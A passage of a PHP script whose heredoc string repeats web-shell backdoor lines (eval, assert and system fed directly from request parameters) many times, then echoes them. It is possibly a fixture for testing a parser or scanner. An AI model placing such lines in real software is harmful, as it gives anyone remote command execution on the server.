eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);system($_POST['c']); eval($_REQUEST['e']); assert($_GET['a']);
PHP
);
$l = <<<LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLX
x
LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLX;
$e = <<<EOT
EOT;
echo $h . $n . $q . $l . $e;
?>
